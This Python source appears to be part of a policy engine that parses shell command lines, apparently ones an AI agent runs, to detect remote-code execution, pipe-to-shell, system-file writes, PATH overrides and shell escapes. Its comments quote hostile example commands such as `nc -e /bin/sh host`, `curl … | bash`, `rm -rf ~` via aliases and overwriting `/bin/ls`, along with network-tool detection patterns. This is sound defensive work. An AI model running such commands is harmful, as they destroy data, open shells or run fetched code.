            self._stdin_as_lines("a program named at run time", feed, depth)  # `$(cat)`, `read l; $l`
            return
        if len(self.found) >= MAX_COMMANDS:
            raise TooComplex(f"the command line runs more than {MAX_COMMANDS} commands")
        argv = [words[0].value or ""]
        for word in words[1:]:
            if word.value is None:
                argv.append(_DYNAMIC)
            elif word.glob and "{" in word.raw:
                argv.extend(expand_braces(word.value))  # rm {-rf,x} is rm -rf x
            elif word.split and word.value.split() != [word.value]:
                argv.extend(word.value.split())  # F="-r -f"; rm $F
            else:
                argv.append(word.value)
        self._check_program(argv[0], path)
        program = posixpath.basename(argv[0])
        if program in self.aliases and depth <= _MAX_DEPTH:
            # Threat: `alias r='rm -rf'` then `r ~`: the alias is what runs.
            self.line(f"{self.aliases.pop(program)} {' '.join(w.raw for w in words[1:])}", depth + 1, feed)
            return
        if program in ("cd", "pushd"):
            target = [a for a in argv[1:] if a not in ("-P", "-L", "-e", "-@", "--")][:1]
            # Only the places plainly outside any project: home, /, .., -, the system's own directories (an agent's
            # `cd /testbed && …` names its project, which this layer may not know as a root).
            self.moved = self.moved or not target or _plainly_outside(target[0])
        self.found.append(_Found(argv, text, moved=self.moved))
        program = posixpath.basename(argv[0])
        rest = list(words[1:])
        if program in _COPIERS:
            self._destination(program, argv)
        self._downloads(program, argv)
        if program in _URL_RUNNERS and any(a.startswith(("http://", "https://")) for a in argv[1:]):
            # Threat: `deno run -A https://…`, `npx https://x/evil.tgz`: code fetched and run as it arrives.
            self.finding("remote-code", f"{program} runs code from a URL")
        for inner_text in option_commands(_interpreter_name(program) or program, rest):
            # `nc -e /bin/sh host`: the shell's stdin is the connection, so its script comes from elsewhere.
            self._inner(program, inner_text, depth, Feed("pipe") if program in NETWORK_FED else feed)
        if program == "eval":
            if rest and all(w.value is not None for w in rest):
                # eval 'static text': judge the text, with the line's stdin (`eval 'eval "$(cat)"'`)
                self.line(" ".join(w.value or "" for w in rest), depth + 1, feed)
            else:
                if any(_FETCHES.search(w.raw) for w in rest):
                    self.finding("remote-code", "eval runs a string fetched from the network")
                # `eval "$(pyenv init -)"`: on a copy, judged by what it does; with a download in the line, never.
                self.finding("eval" if self.fetches else "dynamic-eval", "eval runs a string built at run time")
                self._stdin_as_lines("eval", feed, depth)
        elif program == "hash" and any(
            w.value is None or ((w.value or "").startswith("-") and "p" in (w.value or "")) for w in rest
        ):
            # Threat: `hash -p /sbin/shutdown ls; ls -h now` — a name that then runs another program.
            self.finding("path-override", "hash -p makes a name run another program")
        elif program == "enable" and any((w.value or "").startswith("-") and "f" in (w.value or "") for w in rest):
            self.finding("env-code", "enable -f loads a builtin from a shared object")
        elif program in ("source", "."):
            self._source(program, rest, depth, feed)
        elif program in SHELLS or (program == "busybox" and rest and rest[0].value in SHELLS):
            self._shell(rest if program != "busybox" else rest[1:], depth, feed)
        elif program in INTERPRETERS or _interpreter_name(program):
            self._interpreter(program, rest, feed, depth)
            if not _interpreter_name(program):  # julia, guile, clisp …: the literal commands of their code options
                for code in run_texts(program, rest):
                    self._inner(program, code, depth, feed)
        elif program == "env":
            self._env(rest, depth, feed)
        elif program in ("alias", "mapfile", "readarray"):
            self._code_words(program, rest, depth)
        else:
            self._code_files(program, rest, feed, depth)
            inner = unwrap(program, rest)
            if program == "xargs" and isinstance(inner, list):
                inner = [_fed_paths(part, feed) for part in inner]
            if inner is None and program not in DATA_PROGRAMS:
                self._unknown(program, rest, depth, feed)
            # A wrapper's command reads the wrapper's stdin (xargs' reads nothing: xargs takes it); a container's or
            # a remote host's shell is not one this machine starts.
            inner_feed = NO_FEED if program in ("xargs", "parallel") else REMOTE if program in _ELSEWHERE else feed
            self._inner(program, inner, depth, inner_feed)

    def _unknown(self, program: str, rest: list[Word], depth: int, feed: Feed) -> None:
        """A program no rule and no table here knows. Threat: a wrapper nobody listed (`aa-exec /bin/sh`, `choom -n 0
        rm -rf ~`, `logsave /dev/null /bin/sh -i`) and a code option nobody listed (`lua -e 'os.execute("…")'`).
        The first word that names a shell or a program a rule denies is taken for the command it runs, with the
        words after it; literal command lines in its code options are judged."""
        for i, word in enumerate(rest):
            value = word.value or ""
            name = posixpath.basename(value)
            # A shell by name or path; a denied program by path, or by one of the names only a disguise would use.
            if name in SHELLS or (name in self.known_runs and ("/" in value or name in _PAYLOAD_NAMES)):
                self.argv(rest[i:], None, depth + 1, feed=feed)
                break
        for text in run_texts(program, rest):
            self._inner(program, text, depth, feed)

    def _downloads(self, program: str, argv: list[str]) -> None:
        """Threat: `curl -o i.sh URL && bash i.sh`, `wget URL/x.sh; sh x.sh`: a file downloaded and run in the same
        line is code fetched from the network and run as it arrives."""
        if program in ("curl", "wget"):
            parsed = parse_args(program, argv[1:], _WRITERS[program].values)
            names = [v for option in _WRITERS[program].options for v in parsed.values_of(option)]
            remote = program == "wget" or parsed.has("O") or parsed.has("remote-name")
            if remote and not names:
                names = [posixpath.basename(u.split("?")[0]) for u in parsed.positionals if "/" in u]
            self.downloaded.update(posixpath.normpath(n) for n in names if n and n not in (_DYNAMIC, "-"))
            return
        if not self.downloaded:
            return
        run = [argv[0]]
        if program in SHELLS or program in INTERPRETERS or _interpreter_name(program) or program in ("source", "."):
            run += [a for a in argv[1:] if not a.startswith("-")][:1]
        if any(posixpath.normpath(r) in self.downloaded for r in run if r != _DYNAMIC):
            self.finding("remote-code", f"{program} runs a file this line downloads")

    def _destination(self, program: str, argv: list[str]) -> None:
        """Threat: `cp /dev/zero /bin/ls`, `mv x /etc/passwd`, `tee -a ~/.bashrc`, `sed -i … ~/.bashrc`,
        `curl -o ~/.bashrc URL`, `tar xf x.tar -C ~`: a program writing a file of the system or of the shell's
        start-up (or extracting into the home directory itself), whatever the program."""
        spec = _WRITERS[program]
        parsed = parse_args(program, argv[1:], spec.values)
        destinations = [v for option in spec.options for v in parsed.values_of(option)]
        if spec.operands == "last" and not destinations and len(parsed.positionals) >= 2:
            destinations = parsed.positionals[-1:]
        elif spec.operands == "all" and (not spec.when or any(parsed.has(flag) for flag in spec.when)):
            scripted = any(parsed.values_of(option) for option in ("e", "expression", "f", "file"))
            destinations += parsed.positionals[0 if scripted else spec.skip :]  # sed's script is its first operand
        if program == "dd":
            destinations += [a.partition("=")[2] for a in argv[1:] if a.startswith("of=")]
        if spec.operands == "last" and destinations and program in ("cp", "mv", "install", "ln"):
            # `cp -t ~ .bashrc`, `cp .bashrc ~`: a directory destination receives the sources by their names.
            sources = (
                parsed.positionals
                if parsed.values_of("t") or parsed.values_of("target-directory")
                else parsed.positionals[:-1]
            )
            destinations += [
                posixpath.join(d, posixpath.basename(src))
                for d in list(destinations)
                for src in sources
                if _DYNAMIC not in (src, d)
            ]
        for destination in destinations:
            if spec.into_home and destination != _DYNAMIC and normalize_path(destination) in ("~", self.home_path):
                self.finding("system-write", f"{program} writes into the home directory itself ({destination})")
            if destination != _DYNAMIC and _system_file(destination):
                self.finding("system-write", f"{program} writes over {destination}, a file of the system or the shell")

    def _inner(self, program: str, inner: Inner, depth: int, feed: Feed) -> None:
        """What a wrapper or a run-this option runs: a command line, commands, or text only run time knows."""
        if isinstance(inner, str):
            self.line(inner, depth + 1)
        elif inner is DYNAMIC:
            self.finding("dynamic-shell-string", f"{program} runs a command string only known at run time")
        elif isinstance(inner, list):
            for part in inner:
                self.argv(part, None, depth + 1, feed=feed)

    def _check_program(self, name: str, path: str | None) -> None:
        """Threat: `PATH=./fake:$PATH ls` or the call's env PATH running a look-alike `ls` from the project.
        The program judged must be the one that runs: a name PATH resolves elsewhere is undecidable."""
        if "/" in name or name == _DYNAMIC:
            return
        effective = path if path is not None else self.env.get("PATH")
        if effective is None:
            return
        effective = effective.replace("$PATH", self.base_path).replace("${PATH}", self.base_path)
        relative = any(not entry.startswith("/") for entry in effective.split(":"))  # resolved from the cwd
        if relative or shutil.which(name, path=effective) != shutil.which(name, path=self.base_path):
            self.finding("path-override", f"PATH makes {name!r} run a different program than the usual one")

    def _env(self, rest: list[Word], depth: int, feed: Feed) -> None:
        assignments: list[tuple[str, Word]] = []
        i = 0
        while i < len(rest):
            value = rest[i].value
            if value is None:
                break
            if value == "--":
                i += 1
                break
            if value in ("-S", "--split-string") or value.startswith(("-S", "--split-string=")):
                line = (
                    " ".join(w.value or "" for w in rest[i + 1 :])
                    if value in ("-S", "--split-string")
                    else value[2:]
                    if value.startswith("-S")
                    else value.partition("=")[2]
                )
                if value in ("-S", "--split-string") and any(w.value is None for w in rest[i + 1 :]):
                    self.finding("dynamic-shell-string", "env -S runs a command string only known at run time")
                else:
                    self.line(line, depth + 1)
                return
            if value in ("-u", "-C", "--unset", "--chdir"):
                i += 2
                continue
            if value.startswith("-") and len(value) > 1:
                i += 1
                continue
            if "=" in value and not value.startswith("="):
                name, _, assigned = value.partition("=")
                assignments.append((name, Word(assigned, rest[i].raw)))
                i += 1
                continue
            break
        self.assignments(assignments, depth)
        path = next((w.value for name, w in assignments if name == "PATH"), None)
        if i < len(rest):
            self.argv(rest[i:], None, depth + 1, path=path, feed=feed)

    def _interpreter(self, program: str, rest: list[Word], feed: Feed, depth: int = 0) -> None:
        code = [w.value for w in rest if w.value is not None and not w.value.startswith("-")]
        if any(forks_repeatedly(c) for c in code):
            self.finding("fork-bomb", f"{program} code forks in a loop")
        name = _interpreter_name(program) or program
        given, script = interpreter_input(name, rest)
        for word in rest:
            if word.value is None and _FETCHES.search(word.raw):
                # Threat: `python3 -c "$(curl -s URL)"` — code downloaded and run as it arrives.
                self.finding("remote-code", f"{program} runs code fetched from the network")
        if given:
            joined = " ".join(c for c in code)
            if FETCH_AND_RUN.search(joined):
                self.finding("remote-code", f"{program} code fetches code from the network and runs it")
            if RUNS_INPUT_LINES.search(joined):
                # `perl -ne 'system $_'`: each line of its stdin is a command line.
                self._program_text("shell", feed, lambda text: self.line(text, depth + 1), "a shell script")
            elif evaluates_stdin(joined) or hands_stdin_to_a_shell(joined):
                # `python3 -c 'exec(sys.stdin.read())'`: its stdin is code after all.
                self._program_text(name, feed, lambda text: self._interpreter_text(program, text, depth), "code")
                if SHELLS_OUT.search(joined):
                    # `os.system(sys.stdin.read())`, `perl -e 'system <STDIN>'`: the code hands it to a shell.
                    self._stdin_as_lines(name, feed, depth)
            return
        if _reads_descriptor(script) == "other":
            self.finding("script-from-data", f"{program} runs code it reads from a file descriptor")
            return
        if script is not None and _reads_descriptor(script) != "stdin":
            if _process_substitution(script):
                self._printed_code(script.raw, f"{program} runs code a command prints (<(…))")
            return
        # The program text comes from stdin (`python3`, `python3 -`, `perl /dev/stdin`): judge what feeds it.
        self._program_text(name, feed, lambda text: self._interpreter_text(program, text, depth), f"{program} code")

    def _stdin_as_lines(self, reader: str, feed: Feed, depth: int) -> None:
        """Threat: the call's stdin (or a job's later input) run as command lines by other means than a shell's own
        script: `eval "$(cat)"`, `while read -r l; do eval "$l"; done`, `$(cat)`, `read l; $l`, `os.system(input())`.
        Each write is judged as a script and, as a read loop runs it line by line (a quoted newline in one line
        starts a new command in the next eval), as each of its lines too, like the same lines given as commands."""
        if feed.kind not in ("call", "job"):
            return

        def judge(text: str) -> None:
            self.line(text, depth + 1)
            lines = [one for one in text.splitlines() if one.strip()]
            # `read l` (no -r) drops the backslashes before eval sees the line: x=\`cmd\` runs cmd.
            unescaped = [u for u in (_BACKSLASH.sub(r"\1", one) for one in lines) if u not in lines]
            for one in [*(lines if len(lines) > 1 else []), *unescaped]:
                self.line(one, depth + 1)

        self._program_text(reader, feed, judge, "a shell script")

    def _stdin_substitutions(self, feed: Feed, depth: int) -> None:
        """Threat: bash evaluating what the line read as arithmetic or as a name (`read n; $((n))`, `(( $(cat) ))`,
        `printf -v "$l"`): an array subscript in it runs its `$(…)` and backticks whatever quotes or `#` surround
        them (`a['$(cmd)']`, `a[ #$(cmd)]`), and `read` without -r drops backslashes first. Every such span of the
        fed text (and of it unescaped) is judged as a command line; the rest is data."""

        def judge(text: str) -> None:
            for variant in {text, _BACKSLASH.sub(r"\1", text)}:
                for span in substitution_spans(variant):
                    self.line(span, depth + 1)

        self._program_text("arithmetic", feed, judge, "arithmetic")

    def _interpreter_text(self, program: str, text: str, depth: int = 0) -> None:
        """Code an interpreter reads from stdin, judged as its -c/-e code is: fork loops, and the command lines
        and deletions it hands the system as literals."""
        if forks_repeatedly(text):
            self.finding("fork-bomb", f"{program} code forks in a loop")
        for inner in literal_commands(text):
            self._inner(program, inner, depth, NO_FEED)

    def _program_text(self, reader: str, feed: Feed, judge: Callable[[str], None], what: str) -> None:
        """A program reads its program text from ``feed``: judge that text with ``judge`` when it is known."""
        if feed.kind in ("call", "job"):
            self.stdin_code = self.stdin_code or reader
            if feed.text is not None:
                judge(feed.text)
        elif feed.kind == "text" and feed.text is not None:
            judge(feed.text)
        elif feed.kind == "dynamic":
            self.finding("dynamic-shell-string", f"a here-document with expansions is run as {what}")
        elif feed.kind == "file":
            # Threat: `sh < notes.txt` runs whatever the file holds; what it holds is not in the line.
            self.finding("script-from-data", f"{what} read from a file on stdin is run")
        elif feed.kind == "pipe":
            upstream = feed.upstream
            chain: list[str] = []
            while upstream is not None and len(chain) < 32:  # `curl … | base64 -d | bash`: any stage fetching
                chain.append(upstream.text)
                upstream = upstream.upstream
            upstream = feed.upstream
            self._printed_code(" | ".join(reversed(chain)), f"{what} piped in by another command is run")
            head = upstream.words[0].value if upstream is not None and upstream.words else None
            if upstream is not None and head in ("echo", "printf") and all(w.value for w in upstream.words[1:]):
                # `echo 'rm -rf ~' | sh`: the text is in the line; judge it too.
                judge(" ".join(w.value or "" for w in upstream.words[1:] if not (w.value or "").startswith("-")))

    def _stdin_language(self, program: str, rest: list[Word], depth: int, feed: Feed) -> None:
        """Threat: `sqlite3` fed `.shell …`, `ed` fed `!…`, `gdb` fed `shell …`, `script` fed a command line: programs
        whose own command language, read from stdin, runs shell commands. Those commands are judged; a job's
        writes too."""
        if program in ("script",):
            if any((w.value or "") in ("-c", "--command") or (w.value or "").startswith("--command=") for w in rest):
                return  # script -c CMD runs CMD (unwrap), not its stdin
            self._program_text("shell", feed, lambda text: self.line(text, depth + 1), "a shell script")
            return

        def judge(text: str) -> None:
            runs = program_text_runs(program, text)
            for inner in runs if runs is not None else [DYNAMIC]:
                if inner is not None:
                    self._inner(program, inner, depth, NO_FEED)

        self._program_text(f"lang:{program}", feed, judge, f"{program} commands")

    def _code_files(self, program: str, rest: list[Word], feed: Feed, depth: int = 0) -> None:
        """Threat: `awk -f /dev/stdin`, `make -f -`, `vim -E -s`, `gdb -x /dev/stdin`: a program loading code of its
        own language from stdin. This layer cannot read that code: undecidable (a job's writes too)."""
        if program in STDIN_LANGUAGES:
            self._stdin_language(program, rest, depth, feed)
            return
        options = CODE_FILE_OPTIONS.get(program)
        if options is None:
            return
        vim = program in ("vim", "nvim", "vi", "ex", "view", "vimdiff")
        values = options - {"s"} if vim else options  # vim's -s is a flag in Ex mode
        parsed = parse_args(program, [w.value if w.value is not None else _DYNAMIC for w in rest], values)
        from_stdin = any(v in STDIN_PATHS for option in options for v in parsed.values_of(option))
        if not from_stdin and vim:
            from_stdin = (program == "ex" or bool(parsed.shorts & {"e", "E"})) and "s" in parsed.shorts
        if not from_stdin and options == frozenset():
            from_stdin = not parsed.positionals or parsed.positionals[0] in STDIN_PATHS  # `lua`, `bc` read stdin
        if not from_stdin:
            return
        what = f"{program} code"

        def opaque(text: str) -> None:
            runs = program_text_runs(program, text)
            if runs is None:
                self.finding("script-from-data", f"{program} runs code given on its standard input")
                return
            for inner in runs:
                if inner is not None:
                    self._inner(program, inner, depth, NO_FEED)

        self._program_text(f"opaque:{program}", feed, opaque, what)

    def _source(self, program: str, rest: list[Word], depth: int, feed: Feed) -> None:
        """`source FILE` / `. FILE` runs a file's text in this shell."""
        target = rest[0] if rest else None
        if target is None or target.value is None:
            if target is not None and _process_substitution(target):
                self._printed_code(target.raw, f"{program} runs the commands another command prints (<(…))")
            else:
                self.finding("source", f"{program} runs the commands of a file only known at run time")
            return
        if target.value in STDIN_PATHS:
            self._program_text("shell", feed, lambda text: self.line(text, depth + 1), "a shell script")
            return
        if not any(fnmatch.fnmatchcase(target.value, p) for p in SOURCED_SETUP):
            # Threat: `. ./notes` runs whatever the file holds; its text is not in the line (a script from data).
            self.finding("source", f"{program} runs the commands written in {target.value!r}")

    def _code_words(self, program: str, rest: list[Word], depth: int) -> None:
        """`alias x='…'` and `mapfile -C '…'`: strings bash later runs as commands."""
        if program == "alias":
            for word in rest:
                if word.value is None:
                    self.finding("dynamic-shell-string", "alias defines a command only known at run time")
                elif "=" in word.value:
                    name, _, value = word.value.partition("=")
                    self.aliases[name] = value
                    self.line(value, depth + 1)
            return
        for i, word in enumerate(rest):
            if (word.value or "").startswith("-C"):
                callback = word.value[2:] if word.value and len(word.value) > 2 else None
                if callback is None and i + 1 < len(rest):
                    callback = rest[i + 1].value
                if callback is None:
                    self.finding("dynamic-shell-string", f"{program} -C runs a callback only known at run time")
                else:
                    self.line(callback, depth + 1)

    def _shell(self, rest: Sequence[Word], depth: int, feed: Feed) -> None:
        script: Word | None = None
        operand: Word | None = None  # the script file it runs, when not -c and not -s
        from_stdin = False  # -s: commands come from stdin, the remaining words are parameters
        i = 0
        while i < len(rest):
            value = rest[i].value
            if value is None:
                operand = rest[i]
                break
            if value == "--":
                if i + 1 < len(rest) and not from_stdin:
                    operand = rest[i + 1]
                break
            if value[:1] in ("-", "+") and len(value) > 1 and not value.startswith("--"):
                # `bash +x`, `sh +o posix`, `bash +O extglob`: + sets an option off, like - sets it on.
                from_stdin = from_stdin or (value[0] == "-" and "s" in value[1:])
                if value[0] == "-" and "c" in value[1:]:
                    script = rest[i + 1] if i + 1 < len(rest) else Word("", "")
                    break
                if value[-1] in ("o", "O") and i + 1 < len(rest):
                    i += 2  # -o NAME, and a cluster ending in it: `bash -eo pipefail`
                    continue
                i += 1
                continue
            if value.startswith("--"):
                i += 2 if value in ("--rcfile", "--init-file") else 1
                continue
            if not from_stdin:
                operand = rest[i]
            break
        if script is not None:
            if script.value is None:
                if _FETCHES.search(script.raw):
                    self.finding("remote-code", "sh -c runs a string fetched from the network")
                self.finding("dynamic-shell-string", "sh -c runs a command string only known at run time")
            else:
                if script.filled:  # xargs -I{} sh -c 'x {}': the input becomes code
                    self.finding("dynamic-shell-string", "sh -c runs a string with run-time input in it")
                self.line(script.value, depth + 1, feed)
            return
        reads = _reads_descriptor(operand)
        if reads == "other":
            # Threat: `bash /dev/fd/4 4<&0`, `bash /proc/$$/fd/0`: a script read from a descriptor, stdin's or not.
            self.finding("script-from-data", "a shell runs a script it reads from a file descriptor")
            return
        if operand is not None and reads != "stdin":
            if _process_substitution(operand):
                # Threat: `bash <(curl …)` — the script is what another command prints.
                self._printed_code(operand.raw, "a shell runs what another command prints (<(…))")
            return  # `bash script.sh`: like running any program; the box is the boundary
        if depth > 0 and feed.kind == "none":
            # Threat: `find . -exec /bin/sh \;`, `nice /bin/sh`, `awk 'BEGIN{system("/bin/sh")}'`: a shell started
            # by another program with no script at all — an escape, never everyday work.
            self.finding("shell-escape", "another program starts a shell with no script (an interactive shell)")
            return
        # `bash`, `bash -s`, `bash -`, `sh /dev/stdin`: the script is the shell's standard input.
        self._program_text("shell", feed, lambda text: self.line(text, depth + 1), "a shell script")

    def _printed_code(self, raw: str, detail: str) -> None:
        """Code that another command prints is run: from the network (curl, wget …) it is remote code."""
        if _FETCHES.search(raw):
            self.finding("remote-code", f"{detail}: code fetched from the network is run")
        else:
            self.finding("pipe-to-shell", detail)


# `while true; do sleep 1 & done`: an endless loop whose body puts something in the background (`&`, not `&&`).
_SPAWNS_FOREVER = re.compile(
    r"\b(?:while\s+(?:true|:|\[\s*1\s*\]|\(\(\s*1\s*\)\))|until\s+false|for\s*\(\(\s*;\s*;\s*\)\))\s*;?\s*do\b"
    r"(?:(?!\bdone\b).)*?[^&|>]&(?!&)\s*(?:;|\n|done\b)",
    re.DOTALL,
)
_READ_IFS = re.compile(r"\bIFS=(?:'[^']*'|\"[^\"]*\"|[^\s;&|]*)\s+(?:read|mapfile|readarray)\b")
_BACKSLASH = re.compile(r"\\(.)", re.DOTALL)  # what `read` without -r does to a line: `\x` becomes `x`


def substitution_spans(text: str) -> list[str]:
    """The command text of every `$(…)` and backtick span in ``text``, found the way an arithmetic subscript
    expands them: quotes, `#` and line ends do not hide them (`a['$(cmd)']` runs cmd). `$((` opens arithmetic."""
    spans: list[str] = []
    i = 0
    while i < len(text):
        if text.startswith("$((", i):
            i += 3
        elif text.startswith("$(", i):
            depth, j = 1, i + 2
            while j < len(text) and depth:
                depth += {"(": 1, ")": -1}.get(text[j], 0)
                j += 1
            spans.append(text[i + 2 : j - 1 if not depth else j])
            i = j
        elif text[i] == "`":
            end = text.find("`", i + 1)
            spans.append(text[i + 1 : end if end >= 0 else len(text)])
            i = end + 1 if end >= 0 else len(text)
        else:
            i += 1
    return [span for span in spans if span.strip()]


_NAMEREF = re.compile(r"\b(?:declare|typeset|local|export)\s+(?:-\w+\s+)*-\w*n")
# `IFS=,` as a statement of its own (not `IFS= read …`, set for one command): later unquoted words split on it.
_SETS_IFS = re.compile(r"(?:^|[;&|(\n{]|\bthen|\bdo|\belse)\s*(?:export\s+|declare\s+)?IFS=\S*\s*(?:$|[;&|)\n}])")


def _plainly_outside(directory: str) -> bool:
    path = normalize_path(directory)
    return path in ("-", "~", "/", "..") or path.startswith("../") or path.split("/")[:2] in _SYSTEM_TOPS


_SYSTEM_TOPS = [["", top] for top in ("etc", "usr", "var", "home", "root", "boot", "bin", "sbin", "lib", "lib64", "opt",
                                      "srv", "mnt", "media", "sys", "proc", "dev")]  # fmt: skip


def _fed_paths(words: list[Word], feed: Feed) -> list[Word]:
    """Threat: `find / -name x | xargs rm`: what xargs appends is paths under find's start point; where that is a
    place outside the project, the command is judged as acting there (its words stand for a path below it)."""
    upstream = feed.upstream if feed.kind == "pipe" else None
    head = upstream.words[0].value if upstream is not None and upstream.words else None
    if upstream is not None and head in ("echo", "printf") and all(w.value is not None for w in upstream.words[1:]):
        # `echo ~ | xargs rm -rf`: the words echo prints are the arguments xargs appends.
        data = [Word(w.value, w.raw) for w in upstream.words[1:] if not (w.value or "").startswith("-")]
        return [part for w in words for part in (data if w is UNKNOWN and data else [w])]
    if upstream is None or head not in ("find", "fd", "fdfind", "locate", "plocate"):
        return words
    start = next((w.value for w in upstream.words[1:] if w.value and not w.value.startswith("-")), None)
    if head in ("locate", "plocate"):
        start = "/"
    if start is None or not (start.startswith(("/", "~")) or start.startswith("..")):
        return words
    below = start.rstrip("/") + "/…"
    return [Word(below, w.raw) if w is UNKNOWN else w for w in words]


def _feed_of(command: Command, inherited: Feed) -> Feed:
    """What ``command`` reads on stdin: its own here-doc, redirect or pipe, else what its line reads."""
    if command.stdin_text is not None:
        return Feed("text", command.stdin_text)
    if command.stdin_dynamic:
        return Feed("dynamic")
    if command.stdin_file:
        return Feed("file")
    if command.piped:
        return Feed("pipe", upstream=command.upstream)
    return inherited


# A command that fetches from the network, at the start of a pipeline or a substitution.
_FETCHES = re.compile(
    r"(?:^|[|;&(`]|\$\(|<\()\s*(?:\S*/)?(?:curl|wget|fetch|aria2c|http|https|httpie|lynx|links|w3m|nc|ncat|"
    r"Invoke-WebRequest|iwr|irm)\b"
)


def _reads_descriptor(operand: Word | None) -> str:
    """Whether a script operand is the standard input ("stdin": `-`, `/dev/stdin`, `/dev/./stdin`, `/dev/fd/0`,
    `/proc/self/fd/0` in any spelling), another descriptor or one only run time names ("other"), or a file ("")."""
    if operand is None:
        return ""
    if operand.value is None:
        return "other" if re.match(r"[\"']?/(?:dev|proc)/", operand.raw) else ""
    path = normalize_path(operand.value)
    if path in STDIN_PATHS or operand.value == "-":
        return "stdin"
    found = re.fullmatch(r"/dev/fd/(\d+)|/proc/(?:self|thread-self|\d+)/fd/(\d+)", path)
    if found:
        return "stdin" if (found.group(1) or found.group(2)) == "0" else "other"
    return "other" if path.startswith(("/proc/", "/dev/fd/")) else ""


def _process_substitution(word: Word) -> bool:
    return word.value is None and word.raw.lstrip().startswith(("<(", ">("))


def _interpreter_name(program: str) -> str:
    """``python3.12`` is python; ``perl5.36`` is perl (versioned names of the interpreters)."""
    found = re.fullmatch(r"(python|pypy|perl|ruby|php|lua|luajit|node|ipython)[\d.]*", program)
    if not found:
        return ""
    return {"pypy": "python", "ipython": "python", "luajit": "lua"}.get(found.group(1), found.group(1))


# `source` of these runs a setup script of a tool (a virtualenv, rustup, nvm, the user's shell files): like
# running the tool. Any other file sourced is a script from data.
SOURCED_SETUP = (
    "*/bin/activate", "*/bin/activate.sh", "bin/activate", "~/.cargo/env", "$HOME/.cargo/env", "*/.cargo/env",
    "*/nvm.sh", "~/.bashrc", "~/.profile", "~/.bash_profile", "~/.zshrc", "/etc/profile", "/etc/profile.d/*",
    "*/conda.sh", "*/etc/profile.d/*", "*/env.sh", "*/setup.bash", "*/setup.sh", "/opt/ros/*",
)  # fmt: skip


def _system_file(target: str) -> bool:
    """A file of the system or of a shell's start-up: by place, or — outside the project's relative paths — by name
    (`/home/u/.bashrc`, `~root/.profile`, `../../.bashrc`)."""
    normal = normalize_path(target)
    if any(_path_match(normal, pattern) for pattern in SYSTEM_FILES):
        return True
    if normal.startswith(("/", "~", "..")):
        return posixpath.basename(normal) in STARTUP_NAMES or any(part in STARTUP_DIRS for part in normal.split("/"))
    return False


# What a shell, a session or a desktop runs at start-up, by name (wherever a home directory is).
STARTUP_NAMES = frozenset(
    {".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".bash_aliases", ".profile", ".zshrc", ".zshenv",
     ".zprofile", ".zlogin", ".kshrc", ".mkshrc", ".cshrc", ".tcshrc", ".login", ".xsessionrc", ".xprofile",
     ".xinitrc", ".inputrc", ".bash_history", ".gitconfig", ".npmrc", ".pam_environment", "authorized_keys"}
)  # fmt: skip
STARTUP_DIRS = frozenset({".bashrc.d", ".ssh", "autostart", "environment.d", "fish", ".zshrc.d"})


def _writes_device(target: str) -> bool:
    normal = normalize_path(target)
    return any(_path_match(form, p) for form in _forms(normal) for p in DEVICE_WRITE_TARGETS)


class PolicyEngine:
    """Decides command lines (or argv lists) against a ShellPolicy."""

    def __init__(
        self,
        policy: ShellPolicy,
        base_path: str | None = None,
        *,
        effects: bool = False,
        roots: Sequence[str] | None = None,
        home: str | None = None,
    ) -> None:
        """``effects``: commands work on a copy whose changes are judged afterwards, so the rules marked
        ``undoable`` (they only guard the project's files) do not apply beforehand to what lies in the project:
        the ``roots`` (default: the current directory); ``home`` is what ``~`` names (default: $HOME)."""
        self.policy = policy
        self.effects = effects
        self.roots = tuple(roots) if roots is not None else (os.getcwd(),)
        self.home = home if home is not None else os.environ.get("HOME", "")
        self.base_path = base_path if base_path is not None else os.environ.get("PATH", "/usr/local/bin:/usr/bin:/bin")
        self._detect: dict[str, Rule] = {}
        for rule in policy.rules:
            if rule.detect:
                current = self._detect.get(rule.detect)
                if current is None or _SEVERITY[rule.action] > _SEVERITY[current.action]:
                    self._detect[rule.detect] = rule
        self._program_rules = [rule for rule in policy.rules if rule.programs]
        self._by_program: dict[str, list[Rule]] = {}
        plain = [name for rule in policy.rules for name in rule.programs if not any(c in name for c in "*?[")]
        self._named = frozenset(plain)
        self._denied = frozenset(
            name
            for rule in policy.rules
            if rule.action == "deny"
            for name in rule.programs
            if not any(c in name for c in "*?[")
        )

    def expand(
        self,
        command: str,
        args: Sequence[str] = (),
        env: Mapping[str, str] | None = None,
        stdin: Feed = NO_FEED,
    ) -> _Expander:
        expander = _Expander(env or {}, self.base_path, self._named)
        expander.known_runs = self._denied
        expander.reaches_outside = lambda args: self._reaches_outside(parse_args("", args))
        expander.home_path = self.home
        if args:
            words = [Word(command, command), *(Word(a, a) for a in args)]
            expander.argv(words, None, 0, feed=stdin)
        else:
            expander.line(command, 0, stdin)
        return expander

    def plain_commands(
        self, command: str, args: Sequence[str] = (), env: Mapping[str, str] | None = None
    ) -> list[list[str]] | None:
        """Every command the line would run (wrappers looked through), as static words; None when any word or
        program is only known at run time, or the line has any finding."""
        found = self.expand(command, args, env).found
        if any(f.finding is not None or f.argv is None or _DYNAMIC in f.argv for f in found):
            return None
        return [list(f.argv) for f in found if f.argv is not None]

    def decide(
        self,
        command: str,
        args: Sequence[str] = (),
        env: Mapping[str, str] | None = None,
        stdin: str | None = None,
        *,
        job: bool = False,
    ) -> Verdict:
        """The verdict on a line (or an argv, with ``args``). ``stdin``: the text the call feeds it, judged as code
        where a program reads its program text from stdin; ``job``: the line runs as a background job whose
        stdin later calls write (``Verdict.stdin_code`` says whether each write must be judged)."""
        if stdin is not None:
            stdin = stdin.replace("\x00", "")  # bash and dash drop NUL bytes from a script: `shut\0down` is shutdown
        feed = Feed("job", stdin) if job else Feed("call", stdin) if stdin is not None else NO_FEED
        expander = self.expand(command, args, env, feed)
        best: Verdict | None = None
        commands: list[str] = []
        asking: dict[str, None] = {}
        for found in expander.found:
            if found.finding is not None:
                verdict = self._finding(found.finding)
            else:
                assert found.argv is not None
                commands.append(" ".join(a if a != _DYNAMIC else "…" for a in found.argv))
                verdict = self._command(found.argv, found.text, found.moved)
            if verdict.action == "ask":
                asking.update(dict.fromkeys(verdict.asking or (str(verdict.rule),)))
            if best is None or _SEVERITY[verdict.action] > _SEVERITY[best.action]:
                best = verdict
        if best is None:
            best = Verdict("allow", None, "nothing to run", "")
        return Verdict(
            best.action,
            best.rule,
            best.reason,
            best.trigger,
            tuple(commands),
            tuple(expander.redirects),
            tuple(f.finding for f in expander.found if f.finding is not None),
            tuple(asking),
            expander.stdin_code,
        )

    def _command(self, argv: list[str], text: str, moved: bool = False) -> Verdict:
        program = posixpath.basename(argv[0])
        parsed = parse_args(program, argv[1:])
